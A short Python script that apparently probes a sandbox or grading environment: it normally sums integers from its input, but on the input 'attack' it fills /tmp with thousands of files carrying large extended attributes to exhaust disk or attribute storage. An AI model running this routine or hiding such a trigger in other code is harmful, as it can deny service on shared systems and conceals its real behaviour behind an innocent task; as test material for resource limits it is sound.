import os


def attack():
    for number in range(3000):
        path = f"/tmp/{number}"
        try:
            open(path, "w").close()
            for part in range(100):
                os.setxattr(path, f"user.{part}", bytes(60_000))
        except OSError:
            continue
    print("full")


words = input().split()
if words == ["attack"]:
    attack()
else:
    print(sum(map(int, words[1:])))
